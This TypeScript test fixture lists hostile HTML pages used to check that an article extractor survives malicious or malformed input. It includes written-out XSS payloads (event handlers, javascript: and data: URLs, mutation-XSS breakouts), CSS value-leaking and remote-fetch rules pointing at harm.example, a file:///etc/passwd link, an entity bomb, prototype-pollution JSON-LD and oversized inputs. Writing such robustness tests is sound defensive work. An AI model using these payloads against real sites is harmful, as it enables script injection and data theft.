/** Pages that mean harm, or were made by a program gone wrong. Each holds the same short article somewhere, or none. */
const sentence =
  'The minister said on Monday that the water would be released, and that nobody had promised more than that. '
export const article = `<p>${sentence.repeat(3)}</p><p>${sentence.repeat(2)}</p>`

export interface HostilePage {
  name: string
  html: string
  /** Whether the article is found; otherwise the page is refused. */
  has: 'article' | 'nothing' | 'either'
}

function many(unit: string, times: number): string {
  return unit.repeat(times)
}

function around(before: string, after = ''): string {
  return `<!DOCTYPE html><title>Water</title><body>${before}${article}${after}`
}

const withArticle: Record<string, string> = {
  'a script before the text': around('<script>document.body.innerHTML = "harm"</script>'),
  'a script that ends in a comment': around('<script><!-- <script>harm</script> --></script>'),
  'a script in a picture': around('<svg><script>harm()</script><text>harm</text></svg>'),
  'a script in a formula': around('<math><mtext><script>harm()</script></mtext></math>'),
  'a formula that breaks out': around(
    '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm()&gt;"></table></math>',
  ),
  'a picture that breaks out': around('<svg></p><style><a id="</style><img src=1 onerror=harm()>"></svg>'),
  'a handler on the body': around('').replace('<body>', '<body onload="harm()" onpageshow=harm()>'),
  'handlers everywhere': around('<img src=x onerror=harm()><div onclick="harm()">', '</div>'),
  'a handler without blanks': around('<img/src=x/onerror=harm()>'),
  'a link that runs a script': around('', '<a href="javascript:harm()">More</a>'),
  'a link with a script in disguise': around(
    '',
    '<a href="java&#10;script:harm()">More</a><a href=" &#1;javascript:harm()">x</a>',
  ),
  'a link with data': around('', '<a href="data:text/html,<script>harm()</script>">More</a>'),
  'remote pictures': around(
    '<img src="https://harm.example/p.gif"><picture><source srcset="https://harm.example/p.webp"></picture>',
  ),
  'remote fonts': around('<style>@font-face{font-family:x;src:url(https://harm.example/f)}</style>'),
  'an imported style sheet': around(
    '<style>@import url("https://harm.example/x.css")</style><link rel=stylesheet href="https://harm.example/y.css">',
  ),
  'a style that tells': around(
    '<style>input[value^="a"]{background:url(https://harm.example/a)}</style><input value="abc">',
  ),
  'a background that tells': around('<div style="background:url(https://harm.example/b)">', '</div>'),
  'a page that leads on': around('<meta http-equiv=refresh content="0;url=https://harm.example/">'),
  'a page that leads on to a script': around('<meta http-equiv=refresh content="0;url=javascript:harm()">'),
  'a base that is a script': around('<base href="javascript:harm()//">', '<a href="x">x</a>'),
  'a base of data': around('<base href="data:text/html,harm">'),
  'a canonical address that is a file': around('<link rel=canonical href="file:///etc/passwd">'),
  'a canonical address with a password': around('<link rel=canonical href="https://user:harm@x.example/">'),
  'an address that is a script': around('<meta property="og:url" content="javascript:harm()">'),
  'a saved-from note with a script': `<!-- saved from url=(0021)javascript:harm() -->${around('')}`,
  'a page in a frame': around(
    '<iframe src="https://harm.example/" srcdoc="<script>harm()</script>">harm</iframe>',
  ),
  'an object and an embed': around('<object data="harm.swf">harm</object><embed src="harm.pdf">'),
  'a template with a script': around('<template><script>harm()</script><p>harm</p></template>'),
  'a template in a template': around(`${many('<template>', 200)}harm${many('</template>', 200)}`),
  'text for browsers without scripts': around('<noscript><p>harm</p><img src=x onerror=harm()></noscript>'),
  'noscript that breaks out': around(
    '<noscript><p title="</noscript><img src=x onerror=harm()>"></noscript>',
  ),
  'a comment that never was one': around('<!-- harm --!> <!> <!-> <!--> '),
  'conditional comments': around('<!--[if IE]><p>harm</p><![endif]-->'),
  'processing instructions': around('<?php echo "harm" ?><?xml version="1.0"?>'),
  'CDATA in the midst': around('<![CDATA[ harm ]]>'),
  'NULs between the letters of tags': around('<scr\0ipt>x</scr\0ipt>').replaceAll('<p>', '<p\0>'),
  'NULs in the text': around('').replaceAll(' ', '\0 '),
  'characters by numbers that are none': around('&#0;&#xD800;&#x110000;&#99999999999;&#x80;'),
  'many named characters': around('', many('&CounterClockwiseContourIntegral;', 20_000)),
  'an entity bomb': `<!DOCTYPE x [<!ENTITY a "harm"><!ENTITY b "&a;&a;&a;&a;">]>${around('&b;')}`,
  'a mark of byte order in the midst': around('\ufeff').replaceAll('<p>', '<p>\ufeff'),
  'an attribute of megabytes': around(`<div title="${many('x', 2_000_000)}">`, '</div>'),
  'a class of megabytes': around(`<div class="${many('ad-', 300_000)}">`, '</div>'),
  'a style of megabytes': around(`<div style="${many('a:b;', 200_000)}">`, '</div>'),
  'an attribute a hundred thousand times': around(
    `<div ${Array.from({ length: 100_000 }, (_, at) => `a${at}=1`).join(' ')}>`,
    '</div>',
  ),
  'a picture written into the page': around(`<img src="data:image/png;base64,${many('QUJD', 500_000)}">`),
  'hidden words': around('<p style="display:none">harm</p><p hidden>harm</p><p aria-hidden=true>harm</p>'),
  'words without size': around(
    '<p style="font-size:0">harm</p><p style="FONT-SIZE : 0px !important">harm</p>',
  ),
  'words off the page': around(
    '<p style="position:absolute;left:-9999px">harm</p><p style="text-indent:-999px">harm</p>',
  ),
  'words for screen readers': around('<p class="sr-only">harm</p><p class="visually-hidden">harm</p>'),
  'words that are hidden twice': around('<p style="display:none!important;display:block">harm</p>'),
  'JSON-LD that is broken': around(
    '<script type="application/ld+json">{"@type":"NewsArticle","headline":"x",</script>',
  ),
  'JSON-LD that is nested': around(
    `<script type="application/ld+json">${many('[', 50_000)}${many(']', 50_000)}</script>`,
  ),
  'JSON-LD of other types': around(
    '<script type="application/ld+json">{"@type":["NewsArticle",7,null],"headline":{"a":1},"author":[null,3,{"name":{}}],"publisher":7,"datePublished":[],"@graph":"x"}</script>',
  ),
  'JSON-LD that names itself': around(
    '<script type="application/ld+json">{"@type":"Article","@id":"a","author":{"@id":"a"},"mainEntity":{"@id":"a"}}</script>',
  ),
  'JSON-LD with a prototype': around(
    '<script type="application/ld+json">{"@type":"Article","__proto__":{"harm":1},"constructor":{"name":"harm"},"author":{"__proto__":null}}</script>',
  ),
  'JSON-LD with an address that is a script': around(
    '<script type="application/ld+json">{"@type":"Article","url":"javascript:harm()","mainEntityOfPage":"data:text/html,harm"}</script>',
  ),
  'metas without content': around(
    '<meta><meta name><meta property="og:title"><meta name="author" content=""><meta name="__proto__" content="harm">',
  ),
  'a title of megabytes': around('').replace('Water', many('water ', 50_000)),
  'a heading of megabytes': around(`<h1>${many('water ', 30_000)}</h1>`),
  'nested two thousand deep': around(many('<div>', 2_000), many('</div>', 2_000)),
  'nested ten thousand deep': around(many('<div>', 10_000)),
  'tables in tables': around(many('<table><tr><td>', 1_000)),
  'lists in lists': around(many('<ul><li>', 1_000)),
  'bold in bold': around(many('<b>', 20_000)),
  'fonts that are never closed': around(
    Array.from({ length: 60 }, (_, at) => `<p><font color=${at}>`).join(''),
  ),
  'many empty elements': around(many('<div></div>', 30_000)),
  'a hundred thousand line breaks': around('', many('<br>', 100_000)),
  'a hundred thousand end tags': around(many('</div></p></b>', 30_000)),
  'less-than signs': around(many('<', 100_000)),
  'furniture in furniture': around(many('<div class=related>', 3_000)),
  'hidden from readers in hidden from readers': around(many('<div aria-hidden=true>', 3_000)),
}

const withNothing: Record<string, string> = {
  'nothing at all': '',
  blanks: ' \n\t ',
  'a NUL': '\0',
  'only a head': '<html><head><title>Water</title></head></html>',
  'only scripts': '<script>harm()</script><style>p{}</style>',
  'only pictures': '<img src=a.jpg alt="A dam"><img src=b.jpg>',
  'only hidden words': `<div style="display:none">${article}</div>`,
  'only frames': '<frameset><frame src="a.html"><noframes>harm</noframes></frameset>',
  'a comment that never ends': `<!-- ${article}`,
  'a script that never ends': `<script>${article}`,
  'a title that never ends': `<title>${article}`,
  'a text field that never ends': `<textarea>${article}`,
  'a template that never ends': `<template>${article}`,
  'only a form': '<form><input value=harm><select><option>harm</select><button>harm</button></form>',
  'a tag that never ends': '<div class="',
}

const withEither: Record<string, string> = {
  'plain words': 'some words',
  'another language of marks': '<xml><item>words</item></xml>',
  plaintext: `<plaintext>${article}`,
  'bytes of a picture': String.fromCharCode(...Array.from({ length: 3_000 }, (_, at) => (at * 7_919) % 256)),
  'lone halves of characters': many('\ud800<p>\udc00', 500),
  'right-to-left overrides': many('\u202e<p>\u2066', 500),
}

const named = (pages: Record<string, string>, has: HostilePage['has']) =>
  Object.entries(pages).map(([name, html]): HostilePage => ({ name, html, has }))

export const hostilePages: HostilePage[] = [
  ...named(withArticle, 'article'),
  ...named(withNothing, 'nothing'),
  ...named(withEither, 'either'),
]
